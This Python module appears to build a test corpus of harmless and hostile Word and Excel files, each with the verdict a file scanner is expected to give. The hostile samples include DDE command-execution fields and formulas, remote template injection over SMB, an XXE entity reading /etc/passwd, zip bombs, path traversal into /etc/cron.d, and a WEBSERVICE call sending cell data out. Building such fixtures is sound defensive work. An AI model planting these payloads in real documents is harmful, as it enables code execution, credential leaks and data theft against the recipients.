"""Word and Excel files people and attackers send, for the corpus."""

import io
import struct
import zipfile
from collections.abc import Iterator

import docx

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TAKEN = ""
ACTIVE, EXTERNAL, PACKED = (
    "office.active_content",
    "office.external",
    "office.attachment",
)
BROKEN, HEAVY, BOTH = "office.broken", "file.too_heavy", "file.two_in_one"


def packed(parts, *, method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def types(main) -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
        '2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Override PartName="/x" '
        f'ContentType="{main}"/></Types>'
    )


def relation(kind, target, mode="") -> str:
    where = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship '
        f'Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{where}/></Relationships>'
    )


def word(body="<w:p/>", main=f"{WORD}.main+xml", **changes) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": types(main),
        "_rels/.rels": relation("officeDocument", "word/document.xml"),
        "word/document.xml": f'<w:document xmlns:w="{WORD_SPACE}"><w:body>{body}'
        "</w:body></w:document>",
        **changes,
    }


def excel(sheet="<sheetData/>", main=f"{EXCEL}.main+xml", **changes):
    return {
        "[Content_Types].xml": types(main),
        "_rels/.rels": relation("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET_SPACE}"><sheets/></workbook>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET_SPACE}">{sheet}'
        "</worksheet>",
        **changes,
    }


def with_relation(kind, target, mode="") -> bytes:
    return packed(
        word(**{"word/_rels/document.xml.rels": relation(kind, target, mode)})
    )


def with_own_template(target) -> bytes:
    """As Word writes it: the settings name the template, their relations its place."""
    settings = (
        f'<w:settings xmlns:w="{WORD_SPACE}" xmlns:r="http://schemas.openxmlformats.org'
        '/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    )
    return packed(
        word(
            **{
                "word/settings.xml": settings,
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", target, "External"
                ),
            }
        )
    )


def field(*pieces) -> str:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def formula(text) -> bytes:
    return packed(
        excel(f'<sheetData><row r="1"><c r="A1"><f>{text}</f></c></row></sheetData>')
    )


def written_by_a_library() -> bytes:
    document = docx.Document()
    document.add_heading("Hợp đồng liên kết")
    document.add_table(3, 3)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def encrypted(content: bytes) -> bytes:
    """The flag of a password on the first part, in both its headers."""
    changed = bytearray(content)
    changed[6] |= 1
    changed[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(changed)


def overlapping() -> bytes:
    """Two entries of the directory that share the same bytes."""
    content = packed(word())
    at = content.index(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    entry_length = 46 + struct.unpack_from("<H", content, at + 28)[0]
    entry = bytearray(content[at : at + entry_length])
    entry[46:47] = b"{"  # another name for the same bytes
    body = content[:at] + content[at:end] + bytes(entry)
    tail = bytearray(content[end:])
    count = struct.unpack_from("<H", tail, 8)[0] + 1
    struct.pack_into("<HHI", tail, 8, count, count, len(body) - at)
    return body + bytes(tail)


def lying_size() -> bytes:
    """A part that says it unpacks to less than it does."""
    parts = word(**{"word/media/a.bin": b"\0" * 5000})
    content = bytearray(packed(parts))
    at = content.rindex(b"word/media/a.bin") - 46
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def cases() -> Iterator[tuple[str, bytes, str, str]]:
    """(name, content, verdict, media type when taken)."""
    yield from _honest()
    for name, content, verdict in _hostile_word():
        yield name, content, verdict, ""
    for name, content, verdict in _hostile_excel():
        yield name, content, verdict, ""
    for name, content, verdict in _hostile_archives():
        yield name, content, verdict, ""


def _honest():
    yield "hop-dong.docx", written_by_a_library(), TAKEN, WORD
    yield "nho-nhat.docx", packed(word()), TAKEN, WORD
    yield "khong-nen.docx", packed(word(), method=zipfile.ZIP_STORED), TAKEN, WORD
    link = with_relation("hyperlink", "https://example.vn/", "External")
    yield "co-lien-ket.docx", link, TAKEN, WORD
    mail = with_relation("hyperlink", "mailto:htx@example.vn", "External")
    yield "co-thu.docx", mail, TAKEN, WORD
    for name, target in {
        "normal.docx": "Normal.dotm",
        "normal-cua-nguoi-go.docx": "file:///C:\\Users\\Chi%20Ba\\AppData\\Normal.dotm",
        "normal-o-d.docx": "D:/Mau/Cong van.dotx",
    }.items():
        yield name, with_own_template(target), TAKEN, WORD
    page = field(" PAGE ") + field("TOC \\o ", '"1-3"') + field("DATE")
    yield "muc-luc.docx", packed(word(page)), TAKEN, WORD
    about = "<w:p><w:r><w:t>DDEAUTO là gì, LINK là gì</w:t></w:r></w:p>"
    yield "noi-ve-dde.docx", packed(word(about)), TAKEN, WORD
    yield "that-ra-la-word.pdf", packed(word()), TAKEN, WORD
    pictures = {f"word/media/anh{n}.png": bytes([n]) * 300 for n in range(40)}
    yield "nhieu-anh.docx", packed(word(**pictures)), TAKEN, WORD
    yield "gia-thanh.xlsx", packed(excel()), TAKEN, EXCEL
    yield "cong-thuc.xlsx", formula("SUM(B1:B9)*2"), TAKEN, EXCEL
    yield "chu-trong-ngoac.xlsx", formula('IF(A2="a|b!",1,0)'), TAKEN, EXCEL
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 3000)
    )
    table = f'<dimension ref="A1:F3000"/><sheetData>{rows}</sheetData>'
    yield "ba-nghin-dong.xlsx", packed(excel(table)), TAKEN, EXCEL
    printer = {"xl/printerSettings/printerSettings1.bin": b"\x01\x02" * 99}
    yield "co-may-in.xlsx", packed(excel(**printer)), TAKEN, EXCEL


def _hostile_word():
    macro = f"{WORD}.macroEnabled.main+xml".replace(
        "vnd.openxmlformats-officedocument.wordprocessingml", "vnd.ms-word"
    )
    yield "macro.docm", packed(word(main=macro)), ACTIVE
    vba = {"word/vbaProject.bin": b"\0" * 50}
    yield "macro-giau.docx", packed(word(**vba)), ACTIVE
    yield "vba.docx", with_relation("vbaProject", "x.bin"), ACTIVE
    yield "activex.docx", packed(word(**{"word/activeX/activeX1.xml": "<a/>"})), ACTIVE
    yield "dieu-khien.docx", with_relation("control", "activeX1.xml"), ACTIVE
    yield "ole.docx", with_relation("oleObject", "embeddings/o.bin"), ACTIVE
    yield "doi-tuong.docx", packed(word("<w:object/>")), ACTIVE
    exe = {"word/media/anh.exe": b"MZ"}
    yield "chuong-trinh.docx", packed(word(**exe)), ACTIVE
    for name, target in {
        "mau-xa.docx": "https://example.com/mau.dotm",
        "mau-smb.docx": "\\\\10.0.0.9\\mau.dotm",
        "mau-smb-tep.docx": "file://10.0.0.9/mau.dotm",
        "mau-smb-bon-gach.docx": "file:////10.0.0.9/mau.dotm",
        "mau-smb-giau.docx": "file:///C:/%5C%5C10.0.0.9/mau.dotm",
        "mau-smb-cach.docx": " \\\\10.0.0.9\\mau.dotm",
        "mau-webdav.docx": "\\\\10.0.0.9@SSL\\mau.dotm",
        "mau-ftp.docx": "ftp:mau.dotm",
    }.items():
        yield name, with_relation("attachedTemplate", target, "External"), EXTERNAL
    image = with_relation("image", "http://example.com/a.png", "External")
    yield "anh-xa.docx", image, EXTERNAL
    yield "tai-lieu-con.docx", with_relation("subDocument", "b.docx"), EXTERNAL
    local = with_relation("hyperlink", "file://10.0.0.9/a", "External")
    yield "lien-ket-smb.docx", local, EXTERNAL
    script = with_relation("hyperlink", "javascript:alert(1)", "External")
    yield "lien-ket-js.docx", script, EXTERNAL
    chunk = with_relation("aFChunk", "a.html")
    yield "manh-html.docx", chunk, PACKED
    inside = {"word/embeddings/b.xlsx": b"PK\x03\x04"}
    yield "nhung.docx", packed(word(**inside)), PACKED
    hidden = {"word/media/anh.png": packed({"a": "b"})}
    yield "zip-trong-anh.docx", packed(word(**hidden)), PACKED
    eicar = (
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    )
    yield "eicar-trong-zip.docx", packed({"word/document.com": eicar}), "file.archive"
    yield "dde.docx", packed(word(field("DDEAUTO c:\\\\x.exe"))), ACTIVE
    yield "dde-cat.docx", packed(word(field(" DD", "EAUTO", " c:\\\\x"))), ACTIVE
    simple = '<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'
    yield "dde-gon.docx", packed(word(simple)), ACTIVE
    for name, place in {
        "dde-cho-khac.docx": "noi-khac/van-ban.xml",
        "dde-ten-khac.docx": "word/van-ban.dat",
    }.items():
        whole = word(field("DDEAUTO c:\\\\x.exe"))
        whole[place] = whole["word/document.xml"]
        whole["word/document.xml"] = "<a/>"
        whole["_rels/.rels"] = relation("officeDocument", place)
        yield name, packed(whole), ACTIVE
    picture = field('INCLUDEPICTURE "http://example.com/a.png"')
    yield "anh-truong.docx", packed(word(picture)), EXTERNAL
    for name, start in {
        "xxe.docx": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "bom-cuoi.docx": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>',
        "dtd.docx": '<!DOCTYPE a SYSTEM "http://example.com/a.dtd">',
    }.items():
        content = {"word/document.xml": f"{start}<a/>"}
        yield name, packed(word(**content)), ACTIVE
    deep = "<a>" * 300 + "</a>" * 300
    yield "long-sau.docx", packed(word(deep)), HEAVY
    yield "xml-hong.docx", packed(word("<w:p>")), BROKEN
    yield "thieu-muc.docx", packed({"word/document.xml": "<a/>"}), "file.archive"
    slides = types("application/vnd.ms-powerpoint.x")
    odd = packed(word(**{"[Content_Types].xml": slides}))
    yield "khong-phai-word.docx", odd, "file.office_document"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    locked = ole + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600
    yield "mat-khau.docx", locked, "office.locked"
    yield "cu-hon.xls", ole, "file.office_document"


def _hostile_excel():
    flood = "office.too_many_cells"
    for name, ref in {
        "mot-ty-dong.xlsx": "A1:A1000000000",
        "het-trang.xlsx": "A1:XFD1048576",
        "cot-la.xlsx": "A1:ZZZZZ9",
    }.items():
        declared = f'<dimension ref="{ref}"/><sheetData/>'
        yield name, packed(excel(declared)), flood
    far = '<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>'
    yield "o-xa.xlsx", packed(excel(f"<sheetData>{far}</sheetData>")), flood
    yield "dde.xlsx", formula("cmd|'/c calc'!A0"), ACTIVE
    sheet = f"<worksheet xmlns=\"{SHEET_SPACE}\"><f>cmd|'/c calc'!A0</f></worksheet>"
    yield "dde-cho-khac.xlsx", packed(excel(**{"bang/so1.xml": sheet})), ACTIVE
    yield "dde-ten-khac.xlsx", packed(excel(**{"xl/so1.dat": sheet})), ACTIVE
    yield "dde-2.xlsx", formula("+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), ACTIVE
    yield "goi-mang.xlsx", formula('WEBSERVICE("http://example.com/"&amp;A1)'), EXTERNAL
    name_of = f'<workbook xmlns="{SHEET_SPACE}"><definedName>cmd|x!A1</definedName>'
    book = {"xl/workbook.xml": f"{name_of}</workbook>"}
    yield "ten-dde.xlsx", packed(excel(**book)), ACTIVE
    outside = {"xl/externalLinks/externalLink1.xml": "<a/>"}
    yield "noi-ngoai.xlsx", packed(excel(**outside)), EXTERNAL
    query = {"xl/connections.xml": "<a/>"}
    yield "ket-noi.xlsx", packed(excel(**query)), EXTERNAL
    macros = {"xl/macrosheets/sheet1.xml": "<a/>"}
    yield "macro-4.xlsx", packed(excel(**macros)), ACTIVE
    enabled = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    yield "macro.xlsm", packed(excel(main=enabled)), ACTIVE
    binary = {"xl/vbaProject.bin": b"\0"}
    yield "macro.xlsx", packed(excel(**binary)), ACTIVE
    ole = excel("<oleObjects><oleObject/></oleObjects>")
    yield "ole.xlsx", packed(ole), ACTIVE
    crossed = packed(excel(main=f"{WORD}.main+xml"))
    yield "word-trong-excel.xlsx", crossed, BROKEN


def _hostile_archives():
    yield "bom-phang.docx", packed(word(**{"word/a.xml": b" " * 30_000_000})), HEAVY
    inner = packed({"a": b"\0" * 900_000})
    yield "bom-long-nhau.docx", packed(word(**{"word/b.bin": inner})), PACKED
    many = {f"word/m/{n}.bin": b"" for n in range(3100)}
    yield "ba-nghin-phan.docx", packed(word(**many)), HEAVY
    yield "chong-lan.docx", overlapping(), f"{HEAVY}|{BROKEN}"
    yield "noi-doi-co.docx", lying_size(), f"{BROKEN}|{HEAVY}"
    honest = packed(word())
    yield "rac-giua.docx", honest[:-22] + b"\0" * 900 + honest[-22:], f"{BOTH}|{BROKEN}"
    yield (
        "duoi-html.docx",
        honest + b"<script>alert(1)</script>" * 9,
        f"{BOTH}|{BROKEN}",
    )
    yield (
        "cut.docx",
        honest[: len(honest) // 2],
        f"{BROKEN}|file.archive|file.office_document",
    )
    changed = bytearray(honest)
    changed[honest.index(b"word/document.xml") + 20] ^= 0xFF
    yield "hong-giua.docx", bytes(changed), BROKEN
    yield "khoa-mot-phan.docx", encrypted(honest), "office.locked"
    for name, inside in {
        "len-tren.docx": "../../../etc/cron.d/x",
        "goc.docx": "/etc/passwd",
        "o-dia.docx": "C:/windows/x",
        "nguoc.docx": "word\\..\\x.xml",
    }.items():
        yield name, packed(word(**{inside: "x"})), BROKEN
    yield "trung-ten.docx", packed(word(**{"WORD/document.xml": "<a/>"})), BROKEN
    both = word() | {"xl/workbook.xml": "<a/>"}
    yield "hai-loai.docx", packed(both), "file.office_document"
